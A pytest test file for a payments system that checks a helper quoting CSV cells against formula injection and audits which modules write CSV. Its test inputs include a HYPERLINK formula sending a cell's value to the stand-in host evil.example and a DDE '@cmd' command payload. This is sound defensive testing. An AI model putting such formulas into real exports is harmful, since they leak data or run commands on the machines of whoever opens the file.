"""CSV exports: no cell runs as a formula in a spreadsheet (``csv_cell``, OWASP's rule), numbers
stay numbers, and every CSV writer of the code base is either an export that writes through
``csv_cell`` or a file in a bank's or a provider's own layout, named here with the reason."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path
from typing import Any, cast

import pytest

from payments.domain.csv_cells import csv_cell

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("-5000", "'-5000"),  # text, even when it reads as a number: the type decides
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "'=1+1"),  # already text to a spreadsheet
        ("a=1", "a=1"),  # only the first character counts
        (" =1", " =1"),
        ("\n=1", "\n=1"),  # the writer quotes it; a newline starts no formula
        ("pay_01JNZ8Q4J5K6M7N8P9QRSTVWXY", "pay_01JNZ8Q4J5K6M7N8P9QRSTVWXY"),
        ("2025-03-12", "2025-03-12"),
        ("", ""),
    ],
)
def test_text_that_would_run_as_a_formula_is_quoted(text: str, cell: str) -> None:
    assert csv_cell(text) == cell


@pytest.mark.parametrize("number", [-5000, 0, 1_250_000, 10**15])
def test_an_integer_stays_a_number(number: int) -> None:
    assert csv_cell(number) == number
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([csv_cell(number)])
    assert out.getvalue() == f"{number}\n"  # no quote: a spreadsheet reads the number


def test_none_is_an_empty_cell() -> None:
    assert csv_cell(None) == ""


@pytest.mark.parametrize("value", [1.5, True, date(2025, 3, 12), b"=1"])
def test_anything_else_must_be_made_text_first(value: object) -> None:
    with pytest.raises(TypeError):
        csv_cell(cast("Any", value))


# --- who writes CSV -------------------------------------------------------------------------

# Files people open in a spreadsheet: each cell through csv_cell (the marker says how).
EXPORTS = {
    "payments/reconcile/usecases/reports.py": "csv_cell(",  # a run's items
    "payments/entrypoints/api/reconciliation.py": "export_items_csv(",  # GET .../items.csv
    "payments/entrypoints/console/items.py": "export_items_csv(",  # the console's export
}
# Files in a bank's or a provider's own layout, which the parsers read back: they say what a
# bank or a provider says, so a quote before a value would change it.
INTERCHANGE = {
    "payments/reconcile/formats/settlements.py": "the providers' settlement reports (simulators)",
    "payments/sandbox/settlements.py": "serves those reports",
    "payments/sandbox/treasury.py": "the sandbox treasury's statements",
}
_WRITES_CSV = re.compile(r"csv\.writer\(|csv\.DictWriter\(|media_type=\"text/csv")


def test_every_csv_writer_is_an_export_through_csv_cell_or_a_named_interchange_file() -> None:
    writers = {
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "payments").rglob("*.py"))
        if _WRITES_CSV.search(path.read_text(encoding="utf-8"))
    }
    assert writers == set(EXPORTS) | set(INTERCHANGE)
    for module, marker in EXPORTS.items():
        assert marker in (ROOT / module).read_text(encoding="utf-8"), module
